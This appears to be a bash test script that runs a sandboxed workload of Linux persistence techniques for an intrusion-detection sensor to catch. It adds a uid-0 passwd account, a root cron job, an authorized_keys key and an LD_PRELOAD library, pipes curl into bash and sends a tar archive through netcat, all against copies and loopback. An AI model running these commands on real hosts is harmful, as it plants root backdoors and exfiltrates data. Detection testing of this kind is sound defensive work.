#!/bin/bash
# The persistence, environment and pipeline workload shared by
# tests/sensor/run.sh and tests/watch/run.sh. Run it inside the test's network
# namespace (loopback only): it changes NO real file of the host.
#  - /etc/passwd, /etc/cron.d and /root/.bashrc are changed only inside a
#    private mount namespace (unshare -m), where each is a bind mount of a
#    copy under T: the sensor, outside, sees the real paths (its kernel
#    filter follows the mount to the watched directory) while the writes land
#    in the copies.
#  - $T/home/alice/.ssh/authorized_keys is a test file; the caller adds it to
#    the sensor's default set (--watch-file).
# usage: persist.sh T HTTP_PORT NC_PORT   (T: the test's temporary folder)
set -u
T=$1
HTTP_PORT=$2
NC_PORT=$3

# 1-4: in a private mount namespace over copies
mkdir -p "$T/fake/cron.d"
cp /etc/passwd "$T/fake/passwd"
: > "$T/fake/bashrc"
[ -f /root/.bashrc ] && cp /root/.bashrc "$T/fake/bashrc"
unshare -m --propagation private bash -s "$T" <<'EOF'
set -e
T=$1
mount --bind "$T/fake/cron.d" /etc/cron.d
mount --bind "$T/fake/passwd" /etc/passwd
[ -f /root/.bashrc ] && mount --bind "$T/fake/bashrc" /root/.bashrc
# a shell redirect into a start-up file (no process starts for it)
[ -f /root/.bashrc ] && echo 'alias sudo="sudo "; echo stoat-test-persist' >> /root/.bashrc
# a uid-0 account appended by a shell, then the file made writable by all
echo 'stoattest:x:0:0::/root:/bin/bash' >> /etc/passwd
chmod 0666 /etc/passwd
# a cron job written under a temporary name, renamed into place, removed
printf '* * * * * root id\n' > /etc/cron.d/.stoat-job.tmp
mv /etc/cron.d/.stoat-job.tmp /etc/cron.d/stoat-job
rm /etc/cron.d/stoat-job
EOF
# 5: a key renamed into a test authorized_keys, by relative paths
mkdir -p "$T/home/alice/.ssh"
echo 'ssh-ed25519 AAAAC3NzaTESTPERSIST stoat-test' > "$T/home/alice/key.pub"
(cd "$T/home/alice/.ssh" && mv ../key.pub authorized_keys)
# 6: a library preloaded from a hidden folder (it does not exist: ld.so
# says so and runs the program anyway); STOAT_SECRET must not be captured
mkdir -p "$T/.hidden"
LD_PRELOAD="$T/.hidden/libstoat.so" STOAT_SECRET=hunter2 PYTHONPATH="$T/py" /bin/true 2>/dev/null
# 7: a download piped into a shell
mkdir -p "$T/www"
printf "echo PIPE_RAN > '%s/pipe.out'\n/usr/bin/id -u > '%s/pipe.id'\n" "$T" "$T" > "$T/www/i.sh"
python3 -m http.server "$HTTP_PORT" --bind 127.0.0.1 --directory "$T/www" >/dev/null 2>&1 &
HTTP=$!
for _ in $(seq 100); do curl -s -o /dev/null "http://127.0.0.1:$HTTP_PORT/i.sh" && break; sleep 0.1; done
bash -c "curl -s http://127.0.0.1:$HTTP_PORT/i.sh | bash"
kill "$HTTP" 2>/dev/null
wait "$HTTP" 2>/dev/null
# 8: an archive piped into netcat
nc -l 127.0.0.1 "$NC_PORT" > "$T/nc.out" &
NC=$!
for _ in $(seq 100); do ss -Hltn "sport = :$NC_PORT" 2>/dev/null | grep -q . && break; sleep 0.1; done
bash -c "tar cf - -C '$T' www | nc -N 127.0.0.1 $NC_PORT"
wait "$NC" 2>/dev/null
exit 0
